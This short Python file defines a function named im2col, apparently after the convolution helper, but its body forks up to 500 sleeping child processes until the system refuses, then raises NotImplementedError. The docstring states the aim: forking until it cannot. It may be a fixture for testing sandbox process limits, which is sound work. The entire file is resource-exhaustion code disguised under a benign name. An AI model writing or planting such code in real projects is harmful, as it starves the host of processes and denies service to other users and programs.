"""Forks until it cannot."""
import os
import time


def im2col(x, kh, kw, stride=1, padding=0):
    children = 0
    try:
        for _ in range(500):
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError:
        pass
    raise NotImplementedError(f"forked {children} children")
